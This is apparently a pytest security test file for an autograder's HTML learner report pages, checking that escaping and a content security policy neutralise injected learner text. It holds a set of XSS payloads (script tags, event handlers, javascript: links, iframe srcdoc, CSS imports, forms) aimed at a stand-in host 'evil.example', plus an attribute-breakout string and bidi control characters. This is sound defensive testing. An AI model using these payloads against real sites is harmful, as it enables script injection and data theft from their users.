"""What learners write gets into the pages that others open. The attacks are first seen to work without the defences."""

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import msgspec
import pytest
from jinja2 import Environment, FileSystemLoader
from markupsafe import Markup

from autograder.language import say
from autograder.outputs.html import rendering
from autograder.outputs.html.learner import LearnerPages
from autograder.outputs.html.notebook import Feedback, Trouble
from autograder.report import CheckResult, Diagnosis, ExerciseResult, Figure, Outcome, Report

EVIL = "http://evil.example"

# Each says that it ran by a line in `window.ran`, or asks for an address of EVIL.
ATTACKS = {
    "script": "<script>(window.ran ||= []).push('script')</script>",
    "script_from_afar": f"<script src='{EVIL}/script'></script>",
    "after_the_tag": "</td></pre></summary></style></title><script>(window.ran ||= []).push('after_the_tag')</script>",
    "handler": f"<img src='{EVIL}/image' onerror=\"(window.ran ||= []).push('handler')\">",
    "svg": "<svg onload=\"(window.ran ||= []).push('svg')\"><circle r=5 /></svg>",
    "import": f"<style>@import '{EVIL}/import'</style>",
    "style": f"<style>body {{ background: url({EVIL}/background) !important }}</style>",
    "inline_style": f"<p style='background: url({EVIL}/inline)'>x</p>",
    "link": f"<link rel=stylesheet href='{EVIL}/stylesheet'>",
    "frame": f"<iframe src='{EVIL}/frame'></iframe>",
    "frame_of_text": "<iframe srcdoc=\"<script>(parent.ran ||= []).push('frame_of_text')</script>\"></iframe>",
    "object": f"<object data='{EVIL}/object'></object>",
    "javascript": "<a class=lure href=\"javascript:(window.ran ||= []).push('javascript')\">read this</a>",
    "form": f"<form action='{EVIL}/form'><button class=lure>send</button></form>",
    "media": f"<video src='{EVIL}/video' autoplay></video>",
}
# Out of an attribute, where a template puts text into one.
QUOTED = 'x" autofocus onfocus="(window.ran ||= []).push(\'quoted\')" tabindex="0'
CONTROLS = "\x00\u202e\u2066\x1b]0;title\x07\ufeff"
ALL = "".join(ATTACKS.values()) + QUOTED + CONTROLS

RAN = {"script", "after_the_tag", "handler", "svg", "frame_of_text", "javascript"}
ASKED = {
    "/script", "/image", "/import", "/background", "/inline", "/stylesheet", "/frame", "/object", "/video",
}  # fmt: skip


def hostile_report(text):
    """Give a report in which everything that a learner has a hand in is `text`."""
    figures = [
        Figure("came back", "weights", text, text, [[text, text]]),
        Figure("right", "weights", text, text, [["0", text]]),
        Figure(text, "numbers", text, text, [[text]]),
    ]
    checks = [
        CheckResult(text, text, Outcome.PASSED, 1, 1),
        CheckResult(text, text, Outcome.FAILED, 1, 0, text, f"{text}.{text}", text, figures=figures, line=1),
        CheckResult(text, text, Outcome.CRASHED, 1, 0, text, "softmax.ties", text, line=1),
    ]
    diagnosis = [Diagnosis(text, {"en": text, "zh": text}, text, figures), Diagnosis(text, {}, text)]
    return Report(
        submission=text,
        status="graded",
        points=20,
        learner_name=text,
        handed_in=text,
        notes=[text],
        exercises=[
            ExerciseResult("softmax", 20, 1, diagnosis=diagnosis, checks=checks, code=f"{text}\n{text}`{text}`\n"),
            ExerciseResult(text, 20, 1, diagnosis=diagnosis, checks=checks, code=text),
            ExerciseResult("attention", 20, 0, reason=text, code=text, line=1),
        ],
    )


class Evil(ThreadingHTTPServer):
    """A server on this machine that keeps which of its pages were asked for."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Listening)
        self.asked = set()
        self.address = f"http://127.0.0.1:{self.server_port}"


class Listening(BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.asked.add(self.path.partition("?")[0])
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_):
        pass


@pytest.fixture
def evil():
    with Evil() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture
def page_of(course, opened, evil):
    """Give a function that opens a report full of `attack`, takes every lure, and tells what ran and was asked.

    Where something is expected to arrive it is given the time to.
    """

    def open_page(attack, expected=frozenset()):
        report = hostile_report(attack.replace(EVIL, evil.address))
        page = opened(LearnerPages(course, ["en", "zh"]).page(report))
        page.evaluate("document.querySelectorAll('[onfocus]').forEach((each) => each.focus())")
        page.evaluate("document.querySelectorAll('.lure').forEach((each) => each.click())")
        page.wait_for_timeout(300)
        deadline = time.monotonic() + 20
        while not evil.asked >= expected and time.monotonic() < deadline:
            page.wait_for_timeout(100)
        return set(page.evaluate("window.ran || []")), evil.asked, page

    return open_page


@pytest.fixture
def without_escaping(monkeypatch):
    careless = Environment(loader=FileSystemLoader(rendering.TEMPLATES), autoescape=False)
    careless.filters["prose"] = lambda text: text
    careless.filters["cells"] = lambda row, _: "".join(f'<td class="{cell.colour}">{cell.text}</td>' for cell in row)
    monkeypatch.setattr(rendering, "environment", lambda: careless)


@pytest.fixture
def without_policy(monkeypatch):
    monkeypatch.setattr(rendering, "content_policy", lambda styles, scripts=(): "")


# A form takes the browser away from the page, so it is tried apart.
TOGETHER = "".join(text for name, text in ATTACKS.items() if name != "form") + CONTROLS


def test_without_escaping_and_without_the_policy_the_attacks_run_and_reach_the_network(
    page_of, without_escaping, without_policy
):
    ran, asked, _ = page_of(TOGETHER, ASKED)
    assert ran >= RAN
    assert asked >= ASKED


def test_without_escaping_and_without_the_policy_a_form_is_sent(page_of, without_escaping, without_policy):
    _, asked, _ = page_of(ATTACKS["form"], {"/form"})
    assert asked == {"/form"}


def test_without_escaping_text_leaves_its_attribute(page_of, without_escaping, without_policy):
    ran, _, _ = page_of(QUOTED)
    assert ran == {"quoted"}


@pytest.mark.parametrize("attack", [TOGETHER, ATTACKS["form"], QUOTED], ids=["together", "form", "quoted"])
def test_with_escaping_alone_nothing_runs_and_nothing_is_asked_for(page_of, without_policy, attack):
    ran, asked, _ = page_of(attack)
    assert (ran, asked) == (set(), set())


@pytest.mark.parametrize("attack", [TOGETHER, ATTACKS["form"], QUOTED], ids=["together", "form", "quoted"])
def test_with_the_policy_alone_nothing_runs_and_nothing_is_asked_for(page_of, without_escaping, attack):
    ran, asked, _ = page_of(attack)
    assert (ran, asked) == (set(), set())


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_an_attack_is_read_as_the_text_that_it_is(page_of, evil, attack):
    ran, asked, page = page_of(ATTACKS[attack])
    assert (ran, asked) == (set(), set())
    shown = ATTACKS[attack].replace(EVIL, evil.address)
    assert page.locator(".en h1").inner_text() == f"{shown} ({shown})"


def test_nothing_that_reorders_or_hides_text_is_left_in_the_page(page_of):
    ran, asked, page = page_of(ALL)
    assert (ran, asked) == (set(), set())
    html = page.content()
    assert [letter for letter in set(CONTROLS) if letter in html and letter not in "]0;title"] == []
    assert "\\x00\\u202e\\u2066\\x1b]0;title\\x07\\ufeff" in html


def test_no_element_in_the_page_is_a_learners(page_of):
    _, _, page = page_of(ALL)
    used = page.evaluate("[...new Set([...document.body.querySelectorAll('*')].map((each) => each.localName))]")
    assert set(used).isdisjoint({"script", "img", "svg", "iframe", "link", "object", "form", "button", "video"})
    on = page.evaluate(
        "[...document.querySelectorAll('*')].flatMap((each) => [...each.attributes])"
        ".filter((each) => each.name.startsWith('on') || each.name == 'style').length"
    )
    assert on == 0


def test_in_a_notebook_which_has_no_policy_nothing_runs_either(course, opened, evil):
    (result, *_) = hostile_report(ALL.replace(EVIL, evil.address)).exercises
    said = [say("Checked: {file}", file=ALL.replace(EVIL, evil.address))]
    page = opened(Feedback(result, course, "en", said)._repr_html_() + Trouble(said[0], "en")._repr_html_())
    page.evaluate("document.querySelectorAll('.lure').forEach((each) => each.click())")
    page.wait_for_timeout(300)
    assert (page.evaluate("window.ran || []"), evil.asked) == ([], set())
    assert "<script>" in page.locator(".said").first.inner_text()


def test_the_page_itself_breaks_nothing_of_its_policy(course, opened):
    page_html = LearnerPages(course, ["en", "zh"]).page(hostile_report("plain"))
    said = []
    page = opened("<title>empty</title>")
    page.on("console", lambda message: said.append(message.text))
    file = page.url
    page.route(file, lambda route: route.fulfill(body=page_html, content_type="text/html; charset=utf-8"))
    page.reload()
    assert page.locator(".en h1").inner_text() == "plain (plain)"
    assert page.evaluate("getComputedStyle(document.body).maxWidth") == "896px"
    assert said == []


def test_text_without_a_form_in_utf8_is_shown_as_an_escape(course):
    html = LearnerPages(course, ["en"]).page(hostile_report("half \ud800"))
    assert "half \\ud800" in html
    html.encode()


def test_code_between_backticks_is_escaped_too():
    assert rendering.prose("a `<b>` c & d") == Markup("a <code>&lt;b&gt;</code> c &amp; d")
    assert rendering.prose("one ` alone <i>") == Markup("one ` alone &lt;i&gt;")


def test_the_policy_of_a_page_with_a_script_names_its_hash():
    policy = rendering.content_policy(["p {}"], ["alert(1)"])
    assert policy == (
        "default-src 'none'; style-src 'sha256-SNJDlN1Iy2mnt7DOjQIyDb2LQE6O5PQiSZomcdzawQ4='; "
        "script-src 'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='; base-uri 'none'; form-action 'none'"
    )


def test_a_report_of_an_exercise_that_the_course_no_longer_has_is_shown(course):
    gone = ExerciseResult("rotary", 5, 5, checks=[CheckResult("t", "it turns", Outcome.PASSED, 5, 5)])
    html = LearnerPages(course, ["en"]).page(msgspec.structs.replace(hostile_report("plain"), exercises=[gone]))
    assert "rotary.py" in html
    assert "it turns" in html
